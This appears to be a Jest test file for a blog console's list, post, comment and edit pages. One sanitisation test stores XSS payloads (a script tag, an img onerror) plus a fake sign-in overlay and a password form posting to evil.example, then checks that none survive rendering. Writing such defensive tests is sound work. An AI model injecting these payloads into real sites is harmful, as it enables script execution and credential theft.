import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { contentPagesDomain } from '@console/mirage';
import { mockServerPerTest } from '@console/testing';
import { renderPages, slow } from '../test-kit';

mockServerPerTest(() => [contentPagesDomain()]);
jest.setTimeout(25_000);

declare global {
  interface Window {
    blogPwned?: boolean;
  }
}

/** Stores a post's featured image, as the edit form would. */
async function setFeaturedImage(id: number, featuredImage: string) {
  const form = await (await fetch(`/blog/list/data/edit?id=${id}`)).json();
  await fetch(`/blog/list/data/edit?id=${id}`, { method: 'POST', body: JSON.stringify({ ...form, featuredImage }) });
}

const titles = () => within(screen.getByRole('list', { name: 'Posts' })).getAllByRole('heading', { level: 2 }).map((heading) => heading.textContent);

describe('the blog list', () => {
  it('pages through the posts, four at a time', async () => {
    const { user, router } = await renderPages('/pages/blog');
    expect(router.state.location.pathname).toBe('/pages/blog/list');
    await screen.findByRole('list', { name: 'Posts' }, slow);
    expect(titles()).toHaveLength(4);
    await user.click(within(screen.getByRole('navigation', { name: 'Blog pages' })).getByRole('button', { name: /2/ }));
    await waitFor(() => expect(titles()).toEqual(['Street style at the documentary festival', 'Snacks, sets and sound: a day on the game-show floor']));
    expect(router.state.location.search).toBe('?page=2');
  });

  it('moves a page past the end to the last page, in the address too', async () => {
    const { router } = await renderPages('/pages/blog/list?page=99');
    await screen.findByRole('list', { name: 'Posts' }, slow);
    await waitFor(() => expect(router.state.location.search).toBe('?page=2'));
    expect(titles()).toEqual(['Street style at the documentary festival', 'Snacks, sets and sound: a day on the game-show floor']);
  });

  it('filters by a category from the sidebar, and by the search', async () => {
    const { user } = await renderPages('/pages/blog/list');
    await screen.findByRole('list', { name: 'Posts' }, slow);
    const gaming = within(screen.getByRole('group', { name: 'Show one category' })).getByRole('button', { name: 'Gaming' });
    await user.click(gaming);
    await waitFor(() => expect(gaming).toHaveAttribute('aria-pressed', 'true'));
    await waitFor(() => expect(titles()).toEqual(['Streaming an esports final at 4K and 60 frames', 'Snacks, sets and sound: a day on the game-show floor']), slow);
    await user.click(gaming);
    await user.type(screen.getByRole('searchbox', { name: 'Search the blog' }), 'zeppelin');
    expect(await screen.findByText('No posts match these filters.', {}, slow)).toBeInTheDocument();
    expect(within(screen.getByRole('region', { name: 'Recent posts' })).getAllByRole('link')).toHaveLength(4);
  });
});

describe('the pictures of the blog', () => {
  it('name each post: its featured picture in the list and its thumbnail among the recent posts', async () => {
    await renderPages('/pages/blog/list');
    const list = await screen.findByRole('list', { name: 'Posts' }, slow);
    const name = 'Featured picture of “Dressing a period drama on a streaming budget”';
    expect(within(list).getByRole('img', { name })).toHaveAttribute('src', expect.stringMatching(/^data:image\/svg\+xml,/));
    const recent = await screen.findByRole('region', { name: 'Recent posts' });
    await waitFor(() => expect(within(recent).getAllByRole('img')).toHaveLength(4), slow);
    expect(within(recent).getByRole('img', { name })).toHaveAttribute('src', expect.stringMatching(/^data:image\/svg\+xml,/));
  });

  it('show a placeholder once the featured image is removed, never an empty picture', async () => {
    await setFeaturedImage(1, '');
    await renderPages('/pages/blog/list');
    const list = await screen.findByRole('list', { name: 'Posts' }, slow);
    const name = 'Featured picture of “Dressing a period drama on a streaming budget”';
    expect(within(list).getByRole('img', { name })).not.toHaveAttribute('src');
    const recent = screen.getByRole('region', { name: 'Recent posts' });
    await waitFor(() => expect(within(recent).getByRole('img', { name })).not.toHaveAttribute('src'), slow);
  });

  it('show a placeholder when a picture fails to load', async () => {
    await setFeaturedImage(2, 'https://images.example.com/missing.jpg');
    await renderPages('/pages/blog/detail/2');
    const name = 'Featured picture of “Filming a cooking show in a studio flat”';
    const picture = await screen.findByRole('img', { name }, slow);
    expect(picture).toHaveAttribute('src', 'https://images.example.com/missing.jpg');
    fireEvent.error(picture);
    expect(screen.getByRole('img', { name })).not.toHaveAttribute('src');
  });
});

describe('a post', () => {
  it('shows the post and takes a comment (an empty one is refused at the field)', async () => {
    const { user } = await renderPages('/pages/blog/detail/5');
    expect(await screen.findByRole('heading', { level: 1, name: 'Street style at the documentary festival' }, slow)).toBeInTheDocument();
    expect(await screen.findByText('No comments yet. Be the first.', {}, slow)).toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: 'Post comment' }));
    expect(screen.getByLabelText(/^Comment/)).toHaveAccessibleDescription('Write a comment first.');
    await user.type(screen.getByLabelText(/^Comment/), 'Those coats!');
    await user.click(screen.getByRole('button', { name: 'Post comment' }));
    expect(await screen.findByText('Those coats!', {}, slow)).toBeInTheDocument();
    expect(screen.getByRole('heading', { level: 2, name: '1 comment' })).toBeInTheDocument();
    expect(screen.getByLabelText(/^Comment/)).toHaveValue('');
  });

  it('asks before leaving with a comment typed and not sent; Keep editing keeps it, a sent one lets the page go', async () => {
    const { user, router } = await renderPages('/pages/blog/detail/5');
    await screen.findByText('No comments yet. Be the first.', {}, slow);
    const toBlog = () => within(screen.getByRole('navigation', { name: 'Breadcrumb' })).getByRole('link', { name: 'Blog' });
    await user.type(screen.getByLabelText(/^Comment/), 'Half a thought');
    await user.click(toBlog());
    const dialog = await screen.findByRole('dialog', { name: 'Leave this page?' });
    await user.click(within(dialog).getByRole('button', { name: 'Keep editing' }));
    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
    expect(router.state.location.pathname).toBe('/pages/blog/detail/5');
    expect(screen.getByLabelText(/^Comment/)).toHaveValue('Half a thought');

    await user.click(screen.getByRole('button', { name: 'Post comment' }));
    expect(await screen.findByText('Half a thought', {}, slow)).toBeInTheDocument();
    await user.click(toBlog());
    await waitFor(() => expect(router.state.location.pathname).toBe('/pages/blog/list'));
    expect(screen.queryByRole('dialog', { name: 'Leave this page?' })).not.toBeInTheDocument();
  });

  it('shows a stored body sanitised: no script or onerror runs, no picture, no style overlay, no form', async () => {
    const form = await (await fetch('/blog/list/data/edit?id=5')).json();
    await fetch('/blog/list/data/edit?id=5', {
      method: 'POST',
      body: JSON.stringify({
        ...form,
        content:
          '<p>Coats and scarves.</p><script>window.blogPwned = true</script><img src="missing.png" alt="Courtyard" onerror="window.blogPwned = true">' +
          '<p style="position:fixed;inset:0;z-index:9999">Sign in to keep reading.</p>' +
          '<form action="https://evil.example/steal"><label>Password <input type="password"></label><button>Continue</button></form>',
      }),
    });
    await renderPages('/pages/blog/detail/5');
    const post = await screen.findByRole('article', { name: 'Street style at the documentary festival' }, slow);
    expect(await within(post).findByText('Coats and scarves.', {}, slow)).toBeInTheDocument();
    // A post's body keeps what its edit form's hint promises: paragraphs, headings, lists and links.
    expect(within(post).queryByRole('img', { name: 'Courtyard' })).not.toBeInTheDocument();
    expect(within(post).getByText('Sign in to keep reading.')).not.toHaveAttribute('style');
    expect(within(post).queryByLabelText(/Password/)).not.toBeInTheDocument();
    expect(within(post).queryByRole('button', { name: 'Continue' })).not.toBeInTheDocument();
    expect(window.blogPwned).toBeUndefined();
  });

  it('keeps the paragraphs, headings, lists and links of a body, and only the text of other markup', async () => {
    const form = await (await fetch('/blog/list/data/edit?id=5')).json();
    await fetch('/blog/list/data/edit?id=5', {
      method: 'POST',
      body: JSON.stringify({
        ...form,
        content: '<h3>Looks</h3><p>Long <b>coats</b> and <em>bright</em> scarves.</p><ul><li>Boots</li></ul><p><a href="https://example.com/gallery">Gallery</a></p><img src="https://example.com/x.png" alt="Courtyard">',
      }),
    });
    await renderPages('/pages/blog/detail/5');
    const post = await screen.findByRole('article', { name: 'Street style at the documentary festival' }, slow);
    expect(await within(post).findByRole('heading', { level: 3, name: 'Looks' }, slow)).toBeInTheDocument();
    expect(within(post).getByText('Long coats and bright scarves.')).toBeInTheDocument();
    expect(within(post).getByRole('listitem')).toHaveTextContent('Boots');
    expect(within(post).getByRole('link', { name: 'Gallery' })).toHaveAttribute('href', 'https://example.com/gallery');
    expect(within(post).queryByRole('img', { name: 'Courtyard' })).not.toBeInTheDocument();
    expect(post.innerHTML).not.toMatch(/<(b|em)>/);
  });

  it.each(['99', '05'])('says an unknown post is not found (/pages/blog/detail/%s)', async (id) => {
    await renderPages(`/pages/blog/detail/${id}`);
    expect(await screen.findByRole('heading', { level: 1, name: 'Post not found' }, slow)).toBeInTheDocument();
  });
});

describe('editing a post', () => {
  it('saves the new title, and the list shows it', async () => {
    const { user, router } = await renderPages('/pages/blog/edit/3');
    const title = await screen.findByLabelText(/^Title/, {}, slow);
    await user.clear(title);
    await user.type(title, 'The esports final, frame by frame');
    await user.click(screen.getByRole('button', { name: 'Save post' }));
    expect(await screen.findByText('The post was saved.', {}, slow)).toBeInTheDocument();
    expect(screen.getByLabelText(/^Slug/)).toHaveValue('the-esports-final-frame-by-frame');
    await act(() => router.navigate('/pages/blog/list'));
    await waitFor(() => expect(titles()).toContain('The esports final, frame by frame'), slow);
  });

  it('checks the fields, and keeps the input when the slug is taken', async () => {
    const { user } = await renderPages('/pages/blog/edit/3');
    const title = await screen.findByLabelText(/^Title/, {}, slow);
    for (const box of within(screen.getByRole('group', { name: 'Categories' })).getAllByRole('checkbox')) if ((box as HTMLInputElement).checked) await user.click(box);
    await user.clear(title);
    await user.click(screen.getByRole('button', { name: 'Save post' }));
    expect(title).toHaveAccessibleDescription('Enter a title.');
    expect(screen.getByRole('group', { name: 'Categories' })).toHaveAccessibleDescription('Choose at least one category.');
    await user.type(title, 'Esports');
    await user.click(within(screen.getByRole('group', { name: 'Categories' })).getByRole('checkbox', { name: 'Gaming' }));
    const slug = screen.getByLabelText(/^Slug/);
    await user.clear(slug);
    await user.type(slug, 'filming-a-cooking-show-in-a-studio-flat');
    await user.click(screen.getByRole('button', { name: 'Save post' }));
    await waitFor(() => expect(slug).toHaveAccessibleDescription('Another post already uses this slug. The post’s short name, unique among the posts: lower-case letters and digits joined by dashes. It follows the title until you change it.'), slow);
    expect(title).toHaveValue('Esports');
  });

  it('says at the title, the slug that follows it and the content when they are too long, and keeps the input', async () => {
    const { user } = await renderPages('/pages/blog/edit/3');
    const title = await screen.findByLabelText(/^Title/, {}, slow);
    const content = screen.getByLabelText(/^Content/);
    await user.clear(title);
    await user.click(title);
    await user.paste('a'.repeat(101));
    await user.clear(content);
    await user.click(content);
    await user.paste(`<p>${'a'.repeat(4994)}</p>`);
    await user.click(screen.getByRole('button', { name: 'Save post' }));
    expect(title).toHaveAccessibleDescription('Use at most 100 characters.');
    expect(screen.getByLabelText(/^Slug/)).toHaveAccessibleDescription(expect.stringMatching(/^Use at most 100 characters\. /));
    expect(content).toHaveAccessibleDescription(expect.stringMatching(/^Use at most 5000 characters\. /));
    expect(title).toHaveValue('a'.repeat(101));
    expect(content).toHaveValue(`<p>${'a'.repeat(4994)}</p>`);
  });

  it('says what the content takes: what a post shows', async () => {
    await renderPages('/pages/blog/edit/3');
    expect(await screen.findByLabelText(/^Content/, {}, slow)).toHaveAccessibleDescription(
      'HTML: paragraphs, headings, lists and links, nothing else: other tags, pictures and scripts are removed when the post is shown.',
    );
  });

  it('tells what the slug is, not that it is the post’s address (posts are opened by their id)', async () => {
    await renderPages('/pages/blog/edit/3');
    await screen.findByLabelText(/^Slug/, {}, slow);
    expect(screen.getByText(/^The post’s short name, unique among the posts: lower-case letters and digits joined by dashes\./)).toBeInTheDocument();
    expect(screen.queryByText(/address/)).not.toBeInTheDocument();
  });
});
